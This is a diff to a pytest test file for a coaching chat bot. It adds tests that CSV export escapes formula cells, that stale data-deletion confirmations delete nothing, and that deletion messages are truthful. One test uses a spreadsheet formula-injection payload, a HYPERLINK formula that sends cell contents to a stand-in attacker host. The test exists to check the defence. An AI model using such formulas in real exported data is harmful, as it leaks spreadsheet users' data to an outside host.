@@ -7,6 +7,7 @@ import csv
 import io
 import json
 import sqlite3
+from datetime import timedelta
 
 import pytest
 
@@ -17,8 +18,8 @@ ADMIN = 8299
 
 
 @pytest.fixture
-async def bot(stub, db_path):
-    running = RunningBot(stub, db_path, Clock(), admin_ids=frozenset({ADMIN}))
+async def bot(stub, db_path, clock: Clock):
+    running = RunningBot(stub, db_path, clock, admin_ids=frozenset({ADMIN}))
     await running.start()
     yield running
     await running.stop()
@@ -138,6 +139,51 @@ async def test_forget_leaves_nothing_of_the_person_in_any_table(stub, bot, db_pa
     assert "күннің кеңесі: 1" in gala.last.text
     assert all(n == 0 for n in personal_rows(db_path, gala.id).values())
     assert personal_rows(db_path, hugo.id) == hugo_before
+
+
+async def test_a_formula_in_the_calls_table_is_shown_not_run(stub, bot):
+    """Complaints are pasted from the client's own message, and the CSV is opened in Excel:
+    a cell starting with = + - @ is marked as text with a leading apostrophe."""
+    olga = Person(stub, 8213)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    await walk_a_call(olga, formula, "@all перезвоним")
+    await olga.types("+7 900 123-45-67")
+    await olga.types("/export")
+    (call,) = calls_sheet(stub, olga)
+    assert call["Жалоба"] == "'" + formula
+    assert call["Обещание"] == "'@all перезвоним" and call["Клиент"] == "'+7 900 123-45-67"
+    exported = json.loads(document(stub, olga, "coach-data.json"))
+    assert exported["tables"]["calls"][0]["complaint"] == formula, "the JSON is the data itself"
+
+
+async def test_an_old_forget_question_deletes_nothing(stub, bot, db_path, clock):
+    """A "yes" left in the chat (or pressed by mistake much later) says it expired; a
+    button of the old form, without the time it was asked, is refused all the same."""
+    ivan = Person(stub, 8214)
+    await ivan.types("/tip")
+    await ivan.types("/forget")
+    question = ivan.last
+    clock.advance(timedelta(minutes=11))
+    await ivan.taps("Да, удалить всё", message_id=question.message_id)
+    assert ivan.last.text.startswith("Этот вопрос устарел — ничего не удалено.")
+    assert personal_rows(db_path, ivan.id)["tip_history"] == 1
+    await ivan.types("/history")
+    query_id = await stub.press_raw(ivan.id, ivan.last.message_id, "fg:0:yes")
+    await stub.wait_for_answer(query_id)
+    await stub.wait_idle()
+    assert ivan.last.text.startswith("Этот вопрос устарел")
+    assert personal_rows(db_path, ivan.id)["tip_history"] == 1
+
+
+async def test_forget_says_deleted_only_when_something_was(stub, bot, db_path):
+    """Twice in a row: the second time only the profile the press itself wrote was there."""
+    lena = Person(stub, 8215)
+    await lena.types("/tip")
+    for expected in ("Готово: всё о вас удалено.", "Удалять было нечего"):
+        await lena.types("/forget")
+        await lena.taps("Да, удалить всё")
+        assert lena.last.text.startswith(expected), lena.last.text
+    assert all(n == 0 for n in personal_rows(db_path, lena.id).values())
 
 
 async def test_forget_can_be_declined(stub, bot, db_path):
